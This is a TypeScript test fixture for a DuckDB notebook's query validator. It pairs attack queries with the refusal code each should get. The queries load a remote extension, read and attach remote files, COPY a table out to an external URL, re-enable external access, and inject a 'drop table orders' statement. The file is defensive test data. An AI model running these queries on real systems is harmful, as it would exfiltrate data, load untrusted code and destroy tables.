import type { FailureCode } from '../../src/model/failure';

/** Queries that would send data away, read a stranger's file or break the notebook, and how each is refused. */
export const ATTACKS: readonly { readonly query: string; readonly code: FailureCode }[] = [
  { query: "LOAD 'https://example.com/x.duckdb_extension'", code: 'sql.not_a_query' },
  { query: 'INSTALL httpfs', code: 'sql.not_a_query' },
  { query: "SELECT * FROM read_csv('https://example.com/x.csv')", code: 'sql.forbidden' },
  { query: "SELECT * FROM 'https://example.com/x.csv'", code: 'sql.forbidden' },
  { query: "COPY (SELECT * FROM rfm) TO 'https://example.com/x.csv'", code: 'sql.not_a_query' },
  { query: "ATTACH 'https://example.com/x.db' AS x", code: 'sql.not_a_query' },
  { query: 'SET enable_external_access = true', code: 'sql.not_a_query' },
  {
    query: 'select 1 x); drop table orders; create table zz as (select 1',
    code: 'sql.several_statements',
  },
];
